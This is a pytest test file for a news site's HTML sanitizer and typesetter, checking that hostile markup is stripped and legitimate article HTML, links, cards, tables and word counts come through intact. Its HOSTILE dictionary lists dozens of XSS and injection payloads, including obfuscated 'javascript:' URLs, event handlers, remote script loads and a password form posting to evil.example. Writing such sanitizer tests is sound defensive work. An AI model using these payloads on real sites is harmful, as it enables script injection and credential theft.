"""What is printed is harmless, anyone who wrote the source, and says what was written."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from articles.text import rendering, tidying, typesetting

TAGS = set("p h2 h3 ul ol li blockquote q strong em s sub sup a br hr table tbody tr th td figure figcaption".split())
ATTRIBUTES = {"href", "hreflang", "lang", "rel", "data-photo", "data-card", "colspan", "rowspan"}
PRINTED_TAGS = TAGS | {"thead", "picture", "source", "img", "span"}
PRINTED_ATTRIBUTES = (ATTRIBUTES - {"data-photo", "data-card"}) | {"class", "scope", "data-column"}

HOSTILE = {
    "script": "<p>A</p><script>alert(1)</script>",
    "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "script cut open": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script without an end": "<p>A<script>alert(1)",
    "event": '<p onclick="alert(1)">A</p>',
    "event without quotes": "<a href=/a/ onmouseover=alert(1)>A</a>",
    "event after a slash": "<p/onclick=alert(1)>A</p>",
    "picture with an event": "<img src=x onerror=alert(1)>",
    "javascript": '<a href="javascript:alert(1)">A</a>',
    "javascript in capitals": '<a href="JaVaScRiPt:alert(1)">A</a>',
    "javascript behind blanks": '<a href=" &#1; javascript:alert(1)">A</a>',
    "javascript with a tab": '<a href="java&#9;script:alert(1)">A</a>',
    "javascript in entities": '<a href="&#106;avascript&colon;alert(1)">A</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">A</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">A</a>',
    "somebody else's site": '<a href="//evil.example/">A</a>',
    "somebody else's port": '<a href="//evil.example:8000/">A</a>',
    "somebody else's question": '<a href="//evil.example/?x=a:b">A</a>',
    "backslash": '<a href="/\\evil.example/">A</a>',
    "backslashes": '<a href="\\\\evil.example/">A</a>',
    "slash, tab, slash": '<a href="/&#9;/evil.example/">A</a>',
    "slash, line, slash": '<a href="/&#10;/evil.example/">A</a>',
    "blank before slashes": '<a href=" //evil.example/">A</a>',
    "no scheme": '<a href="evil.example">A</a>',
    "svg": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>A</a></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)></math>",
    "style": "<style>body{display:none}</style><p>A</p>",
    "style attribute": '<p style="position:fixed;inset:0">A</p>',
    "class and id": '<p class="masthead" id="top">A</p>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="//evil.example"><input name=password><button>Log in</button></form>',
    "base": '<base href="//evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "object": '<object data="//evil.example/x.swf"></object><embed src="//evil.example">',
    "template": "<template><script>alert(1)</script></template>",
    "comment": "<!-- <script>alert(1)</script> --><p>A</p><!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "NUL in the tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "NUL in the scheme": '<a href="java\x00script:alert(1)">A</a>',
    "nested deep": "<p>" * 500 + "<script>alert(1)</script>",
    "picture by address": '<figure><img src="https://evil.example/x.png"><figcaption>A</figcaption></figure>',
    "picture with a style": '<figure data-photo="picture" style="position:fixed" onclick="x()"></figure>',
    "picture that leads out": '<figure data-photo="../../admin"></figure>',
    "picture that breaks out": "<figure data-photo='x\"><script>alert(1)</script>'></figure>",
    "script in a caption": '<figure data-photo="x"><figcaption>A<script>x()</script><img src=x></figcaption></figure>',
    "card of javascript": '<figure data-card=""><a href="javascript:alert(1)">A</a></figure>',
    "card of data": '<figure data-card=""><a href="data:text/html,x">A</a></figure>',
    "card with a name in it": '<figure data-card=""><a href="https://youtube.com@evil.example/">A</a></figure>',
    "card of another's site": '<figure data-card=""><a href="//youtube.com/">A</a></figure>',
    "card with a frame": '<figure data-card="&lt;iframe&gt;"><iframe src="https://youtube.com/"></iframe></figure>',
    "card with a broken host": '<figure data-card=""><a href="https://[youtube.com/">A</a></figure>',
    "style in a table": '<table style="position:fixed" class="x" background="//evil.example"><td>A<td>B</table>',
    "event in a cell": "<table><tr><td onclick=alert(1)>A<td>B</table>",
    "cell without an end": '<table><tr><td colspan="9999999" rowspan="-1">A<td colspan="x" headers="y">B</table>',
    "table in a table": "<table><tr><td><table><tr><td>A<td><script>x</script></table><td>B</table>",
    "quotation of evil": '<figure><blockquote cite="javascript:x()">A</blockquote><figcaption>B</figcaption></figure>',
    "style that hides": '<span style="font-weight:700;position:fixed;background:url(//evil.example)">A</span>',
    "deep": "<blockquote>" * 60 + "A",
    "deep tables": "<table><tr><td>" * 15 + "A",
    "target": '<a href="https://good.example/" target="_top" rel="opener">A</a>',
}


def typeset(source: str) -> str:
    return typesetting.typeset(source, pictures={}, moved={})


class Page(HTMLParser):
    """What a browser would find in the printed text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags, self.attributes, self.comments = set(), [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs

    def handle_comment(self, data):
        self.comments.append(data)


def own_or_named(address: str) -> bool:
    """A path of our own site, or a full address that says so. Browsers skip tabs and line ends in an address."""
    address = address.strip().translate({9: None, 10: None, 13: None}).replace("\\", "/")
    if address.startswith(("/", "#")):
        return not address.startswith("//")
    return urlsplit(address).scheme in {"http", "https", "mailto"}


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE)
def test_nothing_hostile_is_printed(source):
    html = rendering.clean(source)
    page = Page(html)
    assert page.tags <= TAGS
    assert {name for name, _value in page.attributes} <= ATTRIBUTES
    assert [value for name, value in page.attributes if name == "href" and not own_or_named(value)] == []
    assert page.comments == []
    assert "\x00" not in html
    assert "<script" not in html.lower()


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE)
def test_nor_is_it_where_a_text_is_set(source):
    """Setting makes elements of its own; nothing that was written may become one of them."""
    page = Page(typeset(source))
    assert page.tags <= PRINTED_TAGS
    assert {name for name, _value in page.attributes} <= PRINTED_ATTRIBUTES
    assert [value for name, value in page.attributes if name == "href" and not own_or_named(value)] == []
    assert page.comments == []


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE)
def test_what_was_cleaned_once_stays_as_it_is(source):
    once = rendering.clean(source)
    assert rendering.clean(once) == once


def test_a_script_is_taken_out_with_all_it_says():
    assert rendering.clean("<p>Before</p><script>alert('x')</script><p>After</p>") == "<p>Before</p><p>After</p>"


def test_the_words_of_an_unknown_element_are_kept():
    assert rendering.clean("<p>The <blink>budget</blink> is <u>agreed</u>.</p>") == "<p>The budget is agreed.</p>"


@pytest.mark.parametrize(
    "source",
    [
        "<p>“We agreed,” he said, — «мы согласны» – 'tis done.</p>",
        '<p>In his calls bBinken "commended" him for last week’s announcement.</p>',
        "<p>İlham Əliyev, Sarıyer, M.G.Ş., Щука</p>",
        "<h2>Head</h2><ul><li>One</li></ul><ol><li>Two</li></ol><blockquote><p>Words</p></blockquote><hr>",
        "<p>H<sub>2</sub>O, 10<sup>3</sup>, <strong>now</strong>, <em>then</em>, <s>no</s>, <q>yes</q><br>end</p>",
        '<p lang="az">Bakı</p>',
        "<table><tbody><tr><th><p>A</p></th><td><p></p></td></tr><tr><th><p>B</p></th><td><p>1</p></td></tr></tbody></table>",
        "<figure><blockquote><p>We agreed.</p></blockquote><figcaption>The <em>mayor</em></figcaption></figure>",
        '<figure data-photo="abc_-1"></figure>',
        '<figure data-photo="abc_-1"><figcaption>The <em>hall</em></figcaption></figure>',
        '<figure data-card=""><a href="https://youtu.be/x?a=1&amp;b=2" rel="noopener">A &amp; B</a></figure>',
        "<ul><li><p>One</p><ul><li><p>Two</p></li></ul></li></ul>",
    ],
)
def test_what_an_article_may_hold_is_printed_as_it_was_written(source):
    assert rendering.clean(source) == source


@pytest.mark.parametrize(
    "address",
    [
        "https://good.example/a?b=1#c",
        "http://good.example/",
        "mailto:desk@samur.example",
        "/politics/",
        "/politics/2024/04/28/x/",
        "#sources",
        "/search/?q=a:b",
        "/",
    ],
)
def test_a_link_that_says_where_it_leads_is_kept(address):
    assert f'href="{address}"' in rendering.clean(f'<p><a href="{address}">A</a></p>')


def test_an_ampersand_and_a_sign_that_looks_like_a_tag_stay_text():
    assert rendering.clean("<p>5 &lt; 7 &amp; 8 &gt; 6</p>") == "<p>5 &lt; 7 &amp; 8 &gt; 6</p>"


def test_lines_of_a_wire_become_paragraphs_sign_for_sign():
    lines = ['bBinken "commended" him', "a < b & c > d", "last week’s", "<script>alert(1)</script>"]
    body = rendering.paragraphs(lines)
    assert rendering.text(body) == " ".join(lines)
    assert Page(rendering.clean(body)).tags == {"p"}
    assert rendering.text(rendering.clean(body)) == " ".join(lines)


def test_the_text_of_a_page_has_no_marks_and_parts_its_blocks():
    assert rendering.text("<h2>Head</h2><p>One<br>two &amp; <em>three</em> four</p>") == "Head One two & three four"


# -- blocks, as they are set ------------------------------------------------------------------------------------------


def test_a_quotation_keeps_who_said_it_apart_from_what_was_said():
    source = "<figure><blockquote><p>We agreed.</p></blockquote><figcaption>The mayor</figcaption></figure>"
    assert typeset(source) == source.replace("<figure>", '<figure class="quote">')


@pytest.mark.parametrize("empty", ["", "<figcaption></figcaption>", "<figcaption> &nbsp;</figcaption>"])
def test_a_quotation_of_nobody_is_a_plain_one(empty):
    quoted = "<blockquote><p>We agreed.</p></blockquote>"
    assert rendering.clean(f"<figure>{quoted}{empty}</figure>") == quoted


def test_a_card_is_a_link_with_the_host_it_leads_to_and_nothing_else():
    html = typeset('<figure data-card=""><a href="https://www.youtube.com/watch?v=x">The speech</a></figure>')
    assert html == (
        '<figure class="card-link"><a href="https://www.youtube.com/watch?v=x" rel="noopener">The speech</a>'
        "<figcaption>youtube.com</figcaption></figure>"
    )


@pytest.mark.parametrize(
    "address",
    ["https://evil.example/x", "https://notyoutube.com/x", "https://youtube.com.evil.example/", "mailto:a@youtube.com"],
)
def test_of_other_hosts_a_card_is_an_ordinary_link(address):
    html = rendering.clean(f'<figure data-card=""><a href="{address}">A</a></figure>')
    assert html == f'<p><a href="{address}" rel="noopener">A</a></p>'


@pytest.mark.parametrize("address", ["https://youtube.com/x", "https://m.youtube.com/x", "https://t.me/x"])
def test_a_host_stands_for_all_its_own(address):
    assert tidying.is_card(address)


def test_the_operator_says_which_hosts(settings):
    settings.EMBED_HOSTS = ["peertube.example"]
    assert tidying.is_card("https://peertube.example/w/1")
    assert not tidying.is_card("https://youtube.com/x")


def table(*rows: str) -> str:
    cells = {"h": "th", "d": "td"}
    made = ("".join(f"<{cells[kind]}><p>{kind}{n}</p></{cells[kind]}>" for n, kind in enumerate(row)) for row in rows)
    return f"<table><tbody>{''.join(f'<tr>{row}</tr>' for row in made)}</tbody></table>"


def test_the_first_row_of_a_table_is_its_head_if_it_names_the_columns():
    assert typeset(table("hh", "hd")) == (
        '<table><thead><tr><th scope="col">h0</th><th scope="col">h1</th></tr></thead>'
        '<tbody><tr><th scope="row">h0</th><td>d1</td></tr></tbody></table>'
    )
    assert "<thead>" not in typeset(table("hd", "hd"))
    assert "<thead>" not in typeset(table("hh"))


def test_the_cells_of_a_wide_table_name_their_column():
    html = typeset(table("hhhh", "hddd"))
    assert html.startswith('<table class="wide"><thead><tr>')
    assert '<th scope="row">h0</th><td data-column="h1">d1</td>' in html
    assert "wide" not in typeset(table("hhh", "hdd"))
    assert "wide" not in typeset(table("dddd", "dddd"))
    assert "wide" not in typeset(table("hhhh", "dd").replace("<td>", '<td colspan="2">'))


def test_the_words_of_a_table_stand_apart_and_a_head_comes_first():
    html = typeset(table("hh", "dd"))
    assert rendering.text(html) == "h0 h1 d0 d1"
    assert rendering.blocks(html) == ["h0", "h1", "d0", "d1"]


def test_captions_and_titles_are_words_of_the_text():
    source = (
        "<figure><blockquote><p>We agreed.</p></blockquote><figcaption>The mayor</figcaption></figure>"
        '<figure data-card=""><a href="https://youtu.be/x">The speech</a></figure>'
    )
    assert rendering.text(typeset(source)) == "We agreed. The mayor The speech youtu.be"
    assert rendering.blocks(typeset(source)) == ["We agreed.", "The mayor", "The speech youtu.be"]


# -- how long it is ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("", 0),
        ("<p></p>", 0),
        ("<p>— … !</p>", 0),
        ("<p>Şəhərə körpü açıldı, o cümlədən Xınalığa.</p>", 6),
        ("<p>Мы согласны – сказал он.</p>", 4),
        ("<p>It's 7.25 km, və-ya 10:30.</p>", 5),
        ("<p>I\u0307stanbul'da</p>", 1),
        ("<p>one<br>two</p><p>three</p><ul><li>four</li></ul>", 4),
        ("<table><tr><td>a</td><td>b</td></tr></table>", 2),
    ],
)
def test_words_are_counted_as_a_writer_counts(source, words):
    assert rendering.count(source) == words


@pytest.mark.parametrize(("words", "minutes"), [(0, 1), (1, 1), (299, 1), (301, 2), (1000, 5)])
def test_two_hundred_words_are_read_in_a_minute(words, minutes):
    assert rendering.minutes(words) == minutes
